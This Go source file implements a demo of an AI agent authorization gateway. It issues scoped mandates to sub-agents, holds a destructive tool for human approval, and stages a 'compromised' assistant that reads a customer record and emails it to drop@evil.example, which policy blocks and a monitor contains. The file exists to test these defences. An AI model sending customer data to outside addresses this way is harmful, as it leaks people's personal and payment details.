package main

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/mandatehq/mandate"
	"github.com/mandatehq/mandate/client"
	"github.com/mandatehq/mandate/dpop"
	"github.com/mandatehq/mandate/gateway"
	"github.com/mandatehq/mandate/httpapi"
	"github.com/mandatehq/mandate/jose"
	"github.com/mandatehq/mandate/monitor"
	"github.com/mandatehq/mandate/policy"
	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// The demo's world: a small CRM and an email server, both MCP servers
// written with the official Go SDK, behind the gateway with these labels.
var storyLabels = map[string]map[string][]string{
	"crm": {
		"list_customers":  {"read_only", "data:customer-data"},
		"get_customer":    {"read_only", "data:customer-data"},
		"delete_customer": {"destructive"},
	},
	"email": {"send_email": {"external_send"}},
}

// storyPolicy is added to the default set: a send out of a task that has
// read customer data is refused outright (the default set holds it for a
// person; the demo shows the inline refusal).
const storyPolicy = `// Added by mandate demo: no send out of a task that read customer data.
@id("demo-no-send-after-customer-data")
@reason("the task has read customer data: nothing may be sent out")
forbid (principal, action == Action::"CallTool", resource is Tool)
when { resource.labels.contains("external_send") && context.labels.contains("customer-data") };
`

var storyCustomers = []map[string]string{
	{"id": "c1", "name": "Ada Lovelace", "email": "ada@example.org", "card": "4111 1111 1111 1111"},
	{"id": "c2", "name": "Grace Hopper", "email": "grace@example.org", "card": "5500 0000 0000 0004"},
	{"id": "c3", "name": "Alan Turing", "email": "alan@example.org", "card": "3400 0000 0000 009"},
}

// startStoryServers serves the CRM and the email server on loopback.
func startStoryServers() (urls map[string]string, sent func() int, stop func(), err error) {
	var mu sync.Mutex
	var deleted, mails int
	crm := mcp.NewServer(&mcp.Implementation{Name: "demo-crm", Version: "1"}, nil)
	mcp.AddTool(crm, &mcp.Tool{Name: "list_customers", Description: "List the customers' ids and names."},
		func(context.Context, *mcp.CallToolRequest, struct{}) (*mcp.CallToolResult, any, error) {
			var lines []string
			for _, c := range storyCustomers {
				lines = append(lines, c["id"]+" "+c["name"])
			}
			return text(strings.Join(lines, "\n")), nil, nil
		})
	mcp.AddTool(crm, &mcp.Tool{Name: "get_customer", Description: "A customer's record."},
		func(_ context.Context, _ *mcp.CallToolRequest, in struct {
			ID string `json:"id"`
		}) (*mcp.CallToolResult, any, error) {
			for _, c := range storyCustomers {
				if c["id"] == in.ID {
					b, _ := json.Marshal(c)
					return text(string(b)), nil, nil
				}
			}
			return nil, nil, fmt.Errorf("no customer %q", in.ID)
		})
	mcp.AddTool(crm, &mcp.Tool{Name: "delete_customer", Description: "Delete a customer's record."},
		func(_ context.Context, _ *mcp.CallToolRequest, in struct {
			ID string `json:"id"`
		}) (*mcp.CallToolResult, any, error) {
			mu.Lock()
			deleted++
			mu.Unlock()
			return text("deleted " + in.ID), nil, nil
		})
	email := mcp.NewServer(&mcp.Implementation{Name: "demo-email", Version: "1"}, nil)
	mcp.AddTool(email, &mcp.Tool{Name: "send_email", Description: "Send an email."},
		func(_ context.Context, _ *mcp.CallToolRequest, in struct {
			To   string `json:"to"`
			Body string `json:"body"`
		}) (*mcp.CallToolResult, any, error) {
			mu.Lock()
			mails++
			mu.Unlock()
			return text("sent to " + in.To), nil, nil
		})
	urls = map[string]string{}
	var servers []*http.Server
	stop = func() {
		for _, s := range servers {
			s.Close()
		}
	}
	for name, srv := range map[string]*mcp.Server{"crm": crm, "email": email} {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			stop()
			return nil, nil, nil, err
		}
		s := &http.Server{Handler: mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return srv }, nil),
			ReadHeaderTimeout: 5 * time.Second}
		servers = append(servers, s)
		go s.Serve(ln)
		urls[name] = "http://" + ln.Addr().String()
	}
	return urls, func() int { mu.Lock(); defer mu.Unlock(); return mails }, stop, nil
}

func text(s string) *mcp.CallToolResult {
	return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: s}}}
}

// presenting presents a mandate (with a fresh DPoP proof) on every
// request; with now, the proof is dated by that clock (a test's).
type presenting struct {
	m   *client.Mandate
	now func() time.Time
}

func (p presenting) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	if p.now != nil && p.m.Type == "DPoP" {
		r.Header.Set("Authorization", "DPoP "+p.m.Token)
		r.Header.Set("DPoP", dpop.NewProof(p.m.Key, r.Method, r.URL.String(), p.m.Token, p.now()))
	} else if err := p.m.Authorize(r); err != nil {
		return nil, err
	}
	return http.DefaultTransport.RoundTrip(r)
}

// StorySummary is what `mandate demo --json` prints.
type StorySummary struct {
	OK               bool           `json:"ok"`
	Task             string         `json:"task"`
	MandatesIssued   int            `json:"mandates_issued"`
	CallsAllowed     int            `json:"calls_allowed"`
	CallsDenied      int            `json:"calls_denied"` // requests refused, tool calls and mandates
	TimeToContainMS  float64        `json:"time_to_contain_ms"`
	AuditVerified    bool           `json:"audit_verified"`
	AuditEntries     int64          `json:"audit_entries"`
	Outcomes         []StoryOutcome `json:"outcomes"`
	DataDir          string         `json:"data_dir"`
	ExfiltratedMails int            `json:"exfiltrated_mails"`
}

// StoryOutcome is one expected outcome of the scenario and whether it
// happened.
type StoryOutcome struct {
	Step   string `json:"step"`
	Want   string `json:"want"`
	OK     bool   `json:"ok"`
	Detail string `json:"detail,omitempty"`
}

// story plays the scenario.
type story struct {
	ctx   context.Context
	out   io.Writer
	pace  time.Duration
	m     *Main
	admin *httpapi.Client
	sum   StorySummary
	n     int
	agent string // the orchestrator to register, with a key of its own; "" for the demo's orchestrator
}

func (s *story) step(title string) {
	s.n++
	select {
	case <-s.ctx.Done():
	case <-time.After(s.pace):
	}
	fmt.Fprintf(s.out, "\n%d. %s\n", s.n, title)
}

func (s *story) say(format string, args ...any) {
	fmt.Fprintf(s.out, "   "+format+"\n", args...)
}

// expect records an outcome and narrates it.
func (s *story) expect(step, want string, ok bool, detail string) {
	s.sum.Outcomes = append(s.sum.Outcomes, StoryOutcome{Step: step, Want: want, OK: ok, Detail: detail})
	mark := "✓"
	if !ok {
		mark = "✗ NOT AS EXPECTED:"
	}
	if detail != "" {
		s.say("%s %s — %s", mark, want, detail)
	} else {
		s.say("%s %s", mark, want)
	}
}

func (s *story) connect(server string, md *client.Mandate) (*mcp.ClientSession, error) {
	return mcpSession(s.ctx, s.m.URL, server, md)
}

// mcpSession opens an MCP session (the official Go SDK's client) to server
// through the gateway at base, presenting md on every request.
func mcpSession(ctx context.Context, base, server string, md *client.Mandate) (*mcp.ClientSession, error) {
	return mcpSessionAt(ctx, base, server, md, nil)
}

// mcpSessionAt is mcpSession with DPoP proofs dated by now (nil: the
// system's clock).
func mcpSessionAt(ctx context.Context, base, server string, md *client.Mandate, now func() time.Time) (*mcp.ClientSession, error) {
	tr := &mcp.StreamableClientTransport{Endpoint: base + "/mcp/" + server, DisableStandaloneSSE: true, MaxRetries: -1,
		HTTPClient: &http.Client{Transport: presenting{md, now}, Timeout: 40 * time.Second}}
	return mcp.NewClient(&mcp.Implementation{Name: "demo-agent", Version: "1"}, nil).Connect(ctx, tr, nil)
}

// call opens a session to server with md, calls tool, and closes it.
func (s *story) call(server string, md *client.Mandate, tool string, args map[string]any) (string, error) {
	cs, err := s.connect(server, md)
	if err != nil {
		return "", err
	}
	defer cs.Close()
	res, err := cs.CallTool(s.ctx, &mcp.CallToolParams{Name: tool, Arguments: args})
	if err != nil {
		return "", err
	}
	var out []string
	for _, c := range res.Content {
		if t, ok := c.(*mcp.TextContent); ok {
			out = append(out, t.Text)
		}
	}
	if res.IsError {
		return "", errors.New(strings.Join(out, " "))
	}
	return strings.Join(out, " "), nil
}

// refused says whether the gateway refuses md outright (401).
func (s *story) refused(server string, md *client.Mandate) bool {
	refused, _ := gatewayRefuses(s.ctx, s.m.URL, server, md)
	return refused
}

func (s *story) why(server string, md *client.Mandate) (bool, string) {
	return gatewayRefuses(s.ctx, s.m.URL, server, md)
}

// gatewayRefuses asks the gateway at base whether it refuses md, and why:
// an authenticated PUT, which it answers 405, or 401 with the reason,
// without going upstream.
func gatewayRefuses(ctx context.Context, base, server string, md *client.Mandate) (bool, string) {
	req, _ := http.NewRequestWithContext(ctx, http.MethodPut, base+"/mcp/"+server, nil)
	if err := md.Authorize(req); err != nil {
		return true, err.Error()
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return false, ""
	}
	resp.Body.Close()
	_, desc, _ := strings.Cut(resp.Header.Get("WWW-Authenticate"), `error_description="`)
	desc, _, _ = strings.Cut(desc, `"`)
	return resp.StatusCode == http.StatusUnauthorized, desc
}

func short(err error) string {
	if err == nil {
		return ""
	}
	s := err.Error()
	if i := strings.Index(s, "denied: "); i >= 0 {
		s = s[i:]
	}
	if len(s) > 160 {
		s = strings.ToValidUTF8(s[:160], "") + "…"
	}
	return s
}

// prepareDemo starts the demo's MCP servers and puts them behind m's
// gateway as crm and email (refusing if routes of those names are
// configured: the scenario deletes records and sends mail), and writes
// the demo's policy, and the default set if the directory has none, into
// m's policy directory. stop stops the servers; mails counts what was
// sent.
func (m *Main) prepareDemo() (mails func() int, stop func(), err error) {
	urls, mails, stop, err := startStoryServers()
	if err != nil {
		return nil, nil, err
	}
	for _, name := range []string{"crm", "email"} {
		for _, r := range m.MCPUpstreams {
			if r.Name == name {
				stop()
				return nil, nil, fmt.Errorf("--demo brings MCP servers of its own named crm and email, and its scenario deletes records and sends mail: "+
					"route %s (%s) is configured already\nhint: start the demo on a data directory and configuration of its own", name, r.URL)
			}
		}
		for _, r := range m.MCPStdio {
			if r.Name == name {
				stop()
				return nil, nil, fmt.Errorf("--demo brings MCP servers of its own named crm and email: route %s is configured already as a command\nhint: start the demo without it", name)
			}
		}
		m.MCPUpstreams = append(m.MCPUpstreams, gateway.Route{Name: name, URL: urls[name], ToolLabels: storyLabels[name]})
	}
	if m.PolicyDir == "" {
		m.PolicyDir = filepath.Join(m.DataDir, "policies")
	}
	if err := os.MkdirAll(m.PolicyDir, 0o700); err != nil {
		stop()
		return nil, nil, err
	}
	// The default set only into a directory with no policy of its own
	// (as the server does): the demo must not widen an operator's set.
	// Its own rule only narrows, so it is always added.
	if have, _ := filepath.Glob(filepath.Join(m.PolicyDir, "*.cedar")); len(have) == 0 {
		for name, b := range policy.DefaultPolicies() {
			if err := os.WriteFile(filepath.Join(m.PolicyDir, name), b, 0o600); err != nil {
				stop()
				return nil, nil, err
			}
		}
	}
	if err := os.WriteFile(filepath.Join(m.PolicyDir, "demo.cedar"), []byte(storyPolicy), 0o600); err != nil {
		stop()
		return nil, nil, err
	}
	return mails, stop, nil
}

// demoLoop plays the scenario every pace until ctx ends, for `serve
// --demo`, a line per round. Each round's orchestrator is a new agent
// (demo-<id>): the monitor rightly raises the risk of an agent whose tasks
// keep trying to send data out, and policy would soon stop one that did it
// every round. (So a demo server gains an agent per round: it is for
// exploring, not for running for weeks.)
func (m *Main) demoLoop(ctx context.Context, pace time.Duration) {
	for round := 1; ; round++ {
		select {
		case <-ctx.Done():
			return
		case <-time.After(pace):
		}
		s := &story{ctx: ctx, out: io.Discard, m: m, admin: &httpapi.Client{BaseURL: m.URL, AdminToken: m.AdminToken},
			agent: "demo-" + strings.ToLower(mandate.NewID("", time.Now()))}
		err := s.play()
		if ctx.Err() != nil {
			return
		}
		ok := 0
		for _, o := range s.sum.Outcomes {
			if o.OK {
				ok++
			}
		}
		if err != nil {
			fmt.Fprintf(m.Stdout, "demo round %d: %v\n", round, err)
			continue
		}
		fmt.Fprintf(m.Stdout, "demo round %d: task %s, %d of %d outcomes as expected, contained in %.1f ms\n",
			round, s.sum.Task, ok, len(s.sum.Outcomes), s.sum.TimeToContainMS)
	}
}

// runStory starts a server in data, plays the scenario, and returns its
// summary; narration goes to out.
func runStory(ctx context.Context, data string, pace time.Duration, out io.Writer) (*StorySummary, error) {
	m := NewMain()
	m.Addr, m.DataDir = "127.0.0.1:0", data
	var logs bytes.Buffer
	m.Stdout, m.Stderr = &logs, &logs
	// Claimed before the demo's policies are written there (claimDataDir).
	if err := m.claimDataDir(); err != nil {
		return nil, err
	}
	mails, stopServers, err := m.prepareDemo()
	if err != nil {
		m.lock.Release()
		return nil, err
	}
	defer stopServers()
	if err := m.Open(ctx); err != nil {
		return nil, fmt.Errorf("demo: start the server: %w\n%s", err, logs.String())
	}
	defer m.Close()
	s := &story{ctx: ctx, out: out, pace: pace, m: m, admin: &httpapi.Client{BaseURL: m.URL, AdminToken: m.AdminToken}}
	s.sum.DataDir = data
	fmt.Fprintf(out, "Mandate demo: a server at %s, with a CRM and an email MCP server behind its gateway.\n", m.URL)
	if err := s.play(); err != nil {
		return &s.sum, err
	}
	s.sum.ExfiltratedMails = mails()
	s.sum.OK = s.sum.ExfiltratedMails == 0
	for _, o := range s.sum.Outcomes {
		s.sum.OK = s.sum.OK && o.OK
	}
	return &s.sum, nil
}

func (s *story) play() error {
	ctx := s.ctx
	// The cast: alice's orchestrator, registered with its public key; alice
	// approves what needs a person.
	// (Its key is kept in the data directory, for a second run with --data,
	// where `serve --demo` keeps it too.)
	name := "orchestrator"
	if err := os.MkdirAll(filepath.Join(s.m.DataDir, "demo"), 0o700); err != nil {
		return err
	}
	keyPath := filepath.Join(s.m.DataDir, "demo", "orchestrator.jwk")
	key, _, err := readKeyFile(keyPath)
	if s.agent != "" {
		name = s.agent
		_, key, _ = ed25519.GenerateKey(rand.Reader)
		if _, err := s.admin.CreateAgent(ctx, httpapi.AgentRequest{Name: name, Owner: "alice@example.org",
			Ceiling: []string{"mcp:crm:*", "mcp:email:*"}, PublicKey: jose.NewPublicJWK(key.Public().(ed25519.PublicKey))}); err != nil {
			return fmt.Errorf("demo: register %s: %w", name, err)
		}
	} else if err != nil {
		_, key, _ = ed25519.GenerateKey(rand.Reader)
		b, _ := json.MarshalIndent(jose.NewPrivateJWK(key), "", "  ")
		os.Remove(keyPath)
		if err := writeFileExcl(keyPath, append(b, '\n')); err != nil {
			return err
		}
		if _, err := s.admin.CreateAgent(ctx, httpapi.AgentRequest{Name: "orchestrator", Owner: "alice@example.org",
			Ceiling: []string{"mcp:crm:*", "mcp:email:*"}, PublicKey: jose.NewPublicJWK(key.Public().(ed25519.PublicKey))}); err != nil {
			return fmt.Errorf("demo: register the orchestrator: %w", err)
		}
	}
	// alice's approver credential, likewise kept.
	tokPath := filepath.Join(s.m.DataDir, "demo", "alice.token")
	tok, err := os.ReadFile(tokPath)
	if err != nil {
		alice, err := s.admin.CreateApprover(ctx, "alice@example.org")
		if err != nil {
			return fmt.Errorf("demo: register alice as an approver: %w", err)
		}
		tok = []byte(alice.Token)
		if err := writeFileExcl(tokPath, tok); err != nil {
			return err
		}
	}
	approver := &httpapi.Client{BaseURL: s.m.URL, ApproverToken: strings.TrimSpace(string(tok))}
	orch, err := client.New(client.Config{Issuer: s.m.URL, AgentID: mandate.AgentID(s.m.TrustDomain, name), Key: key, DPoP: true})
	if err != nil {
		return err
	}

	s.step("alice's " + name + " agent gets a root mandate for a task")
	// Lifetimes leave room for the pauses between steps.
	life := max(30*time.Second, 20*s.pace)
	root, err := orch.Root(ctx, client.Request{Scope: "mcp:crm:* mcp:email:send_email", TTL: max(2*time.Minute, 40*s.pace), Purpose: "clean up the customer list"})
	if err != nil {
		return fmt.Errorf("demo: root mandate: %w", err)
	}
	s.sum.Task = root.Claims.Task
	s.say("mandate %s, task %s, for %s, %s, bound to the agent's key (DPoP)", root.Claims.ID, root.Claims.Task, root.Claims.Subject, root.Claims.Scope)

	s.step("it spawns four ephemeral sub-agents, each narrower, living 30 ms to " + life.String())
	spawn := func(name, scope string, ttl time.Duration) (*client.Mandate, error) {
		md, err := orch.Delegate(ctx, root, client.NewEphemeral(), client.Request{Scope: scope, TTL: ttl}, client.DelegateOptions{})
		if err != nil {
			return nil, fmt.Errorf("demo: delegate to %s: %w", name, err)
		}
		s.say("%-10s %s  %-40s %v", name, shortID(md.Claims.ClientID), md.Claims.Scope, ttl)
		return md, nil
	}
	researcher, err := spawn("researcher", "mcp:crm:list_customers mcp:crm:get_customer", life)
	if err != nil {
		return err
	}
	cleaner, err := spawn("cleaner", "mcp:crm:delete_customer", life)
	if err != nil {
		return err
	}
	assistant, err := spawn("assistant", "mcp:crm:get_customer mcp:email:send_email", life)
	if err != nil {
		return err
	}
	sprinter, err := spawn("sprinter", "mcp:crm:list_customers", 30*time.Millisecond)
	if err != nil {
		return err
	}

	s.step("the researcher lists the customers through the gateway")
	res, err := s.call("crm", researcher, "list_customers", nil)
	s.expect("read", "a call within scope is allowed", err == nil, strings.ReplaceAll(res, "\n", "; "))

	s.step("the researcher tries to delete a customer")
	_, err = s.call("crm", researcher, "delete_customer", map[string]any{"id": "c3"})
	s.expect("out of scope", "a call outside its mandate's scope is refused", err != nil && strings.Contains(err.Error(), "does not allow"), short(err))

	s.step("the sprinter's 30 ms mandate is used after it expired")
	time.Sleep(time.Until(sprinter.Claims.Expiry.Time) + 5*time.Millisecond)
	_, err = s.call("crm", sprinter, "list_customers", nil)
	_, why := s.why("crm", sprinter)
	s.expect("expired", "a 30 ms mandate is refused once expired", err != nil, why)

	s.step("the cleaner deletes a customer: a destructive tool waits for a person")
	done := make(chan error, 1)
	go func() {
		_, err := s.call("crm", cleaner, "delete_customer", map[string]any{"id": "c3"})
		done <- err
	}()
	approved := false
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline) && !approved && ctx.Err() == nil; time.Sleep(20 * time.Millisecond) {
		list, err := approver.Approvals(ctx, string(mandate.ApprovalPending), root.Claims.Task)
		if err != nil || len(list) == 0 {
			continue
		}
		s.say("approval %s pending: %s", list[0].ID, list[0].Reason)
		if _, err := approver.Decide(ctx, list[0].ID, true, "ok, c3 asked to be forgotten"); err == nil {
			s.say("alice approves it")
			approved = true
		}
	}
	err = <-done
	s.expect("approval", "the held call goes through once alice approves", approved && err == nil, short(err))

	s.step("the assistant is compromised: it reads a customer record and emails it out")
	rec, err := s.call("crm", assistant, "get_customer", map[string]any{"id": "c1"})
	s.expect("compromised read", "the read is allowed (it is within scope)", err == nil, rec)
	ecs, err := s.connect("email", assistant)
	if err != nil {
		return fmt.Errorf("demo: the assistant's email session: %w", err)
	}
	if _, err := ecs.ListTools(ctx, nil); err != nil {
		return fmt.Errorf("demo: the email server's tools: %w", err)
	}
	start := time.Now()
	_, err = ecs.CallTool(ctx, &mcp.CallToolParams{Name: "send_email", Arguments: map[string]any{"to": "drop@evil.example", "body": rec}})
	ecs.Close()
	s.expect("exfiltration", "policy refuses the send inline (the task read customer data)", err != nil && strings.Contains(err.Error(), "customer data"), short(err))
	contained := false
	for time.Since(start) < 10*time.Second && ctx.Err() == nil {
		if refused, why := s.why("crm", researcher); refused && strings.Contains(why, "revoked") {
			contained = true
			break
		}
		time.Sleep(100 * time.Microsecond)
	}
	s.sum.TimeToContainMS = float64(time.Since(start).Microseconds()) / 1000
	s.expect("containment", "the monitor revokes the task's tree", contained, fmt.Sprintf("every mandate refused %.1f ms after the send", s.sum.TimeToContainMS))
	_, err = s.call("crm", researcher, "list_customers", nil)
	_, why = s.why("crm", researcher)
	s.expect("after", "the researcher's next call is refused", err != nil, why)
	all := !s.refused("crm", root) || !s.refused("crm", cleaner) || !s.refused("email", assistant)
	s.expect("after", "so are the orchestrator's and every sibling's", !all, "")
	// The alert is written just after the revocation (containment first).
	detector := ""
	for deadline := time.Now().Add(5 * time.Second); detector == "" && time.Now().Before(deadline) && ctx.Err() == nil; time.Sleep(5 * time.Millisecond) {
		alerts, _ := s.admin.Events(ctx, url.Values{"type": {mandate.EventAlert}, "task": {root.Claims.Task}})
		for _, a := range alerts { // (at a slow pace the sprinter's stale mandate raised one too)
			if a.Details["detector"] == monitor.Exfiltration {
				detector = monitor.Exfiltration
			}
		}
	}
	s.expect("alert", "an alert names the detector and the evidence", detector == "exfiltration", detector)

	s.step("the audit log is verified, and the task's tree drawn")
	// A checkpoint of everything so far (one is signed every second
	// anyway), then the verifier, which checks what checkpoints cover; it
	// remembers what it saw in the data directory, not the user's.
	cp, err := s.admin.PublishCheckpoint(ctx)
	if err != nil {
		return fmt.Errorf("demo: sign a checkpoint: %w", err)
	}
	if lines := strings.SplitN(string(cp), "\n", 3); len(lines) >= 2 {
		s.sum.AuditEntries, _ = strconv.ParseInt(lines[1], 10, 64)
	}
	var buf bytes.Buffer
	err = dispatch(ctx, []string{"audit", "verify", "--url", s.m.URL, "--data", s.m.DataDir, "--state", filepath.Join(s.m.DataDir, "demo", "audit-state.json")},
		strings.NewReader(""), &buf, &buf)
	s.sum.AuditVerified = err == nil && s.sum.AuditEntries > 0
	s.expect("audit", "mandate audit verify passes", s.sum.AuditVerified,
		fmt.Sprintf("%d entries under a signed checkpoint; %s", s.sum.AuditEntries, lastLine(buf.String())))
	buf.Reset()
	if err := dispatch(ctx, []string{"audit", "show", "--task", root.Claims.Task, "--server", s.m.URL, "--data", s.m.DataDir},
		strings.NewReader(""), &buf, &buf); err != nil {
		return err
	}
	for _, line := range strings.Split(strings.TrimRight(buf.String(), "\n"), "\n") {
		s.say("%s", line)
	}
	evs, err := s.admin.Events(ctx, url.Values{"task": {root.Claims.Task}, "limit": {"1000"}})
	if err != nil {
		return err
	}
	for _, e := range evs {
		switch {
		case e.Type == mandate.EventMandateIssued || e.Type == mandate.EventMandateDelegated:
			s.sum.MandatesIssued++
		case e.Type == mandate.EventToolCall:
			s.sum.CallsAllowed++
		case e.Type == mandate.EventDecision && e.Outcome == mandate.OutcomeDeny:
			s.sum.CallsDenied++
		}
	}
	return nil
}

func lastLine(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	return strings.TrimSpace(lines[len(lines)-1])
}

// demo is `mandate demo [--data DIR] [--pace D] [--json]`: the story in one
// command, exit status 0 only if every expected outcome happened.
func (c *cli) demo(args []string) error {
	fs := flag.NewFlagSet("mandate demo", flag.ContinueOnError)
	fs.SetOutput(io.Discard)
	data := fs.String("data", "", "data directory (default: a temporary one, removed at the end)")
	pace := fs.Duration("pace", 400*time.Millisecond, "pause before each step")
	asJSON := fs.Bool("json", false, "print the summary as JSON (the story goes to stderr)")
	fs.Usage = func() {
		fmt.Fprintln(c.stderr, "usage: mandate demo [--data DIR] [--pace D] [--json]")
		fs.SetOutput(c.stderr)
		fs.PrintDefaults()
		fs.SetOutput(io.Discard)
	}
	if _, err := c.parse(fs, args, 0); err != nil {
		return err
	}
	dir := *data
	if dir == "" {
		tmp, err := os.MkdirTemp("", "mandate-demo-")
		if err != nil {
			return err
		}
		defer os.RemoveAll(tmp)
		dir = tmp
	}
	out := c.stdout
	if *asJSON {
		out = c.stderr
	}
	sum, err := runStory(c.ctx, dir, *pace, out)
	if err != nil {
		return err
	}
	if *asJSON {
		enc := json.NewEncoder(c.stdout)
		enc.SetIndent("", "  ")
		enc.Encode(sum)
	} else {
		allowed := 0
		for _, o := range sum.Outcomes {
			if o.OK {
				allowed++
			}
		}
		fmt.Fprintf(out, "\nSummary: %d mandates issued, %d tool calls allowed, %d requests refused; contained in %.1f ms; audit log verified: %v (%d entries); %d of %d outcomes as expected.\n",
			sum.MandatesIssued, sum.CallsAllowed, sum.CallsDenied, sum.TimeToContainMS, sum.AuditVerified, sum.AuditEntries, allowed, len(sum.Outcomes))
	}
	if !sum.OK {
		return errors.New("demo: not every expected outcome happened (see the lines marked ✗)")
	}
	return nil
}
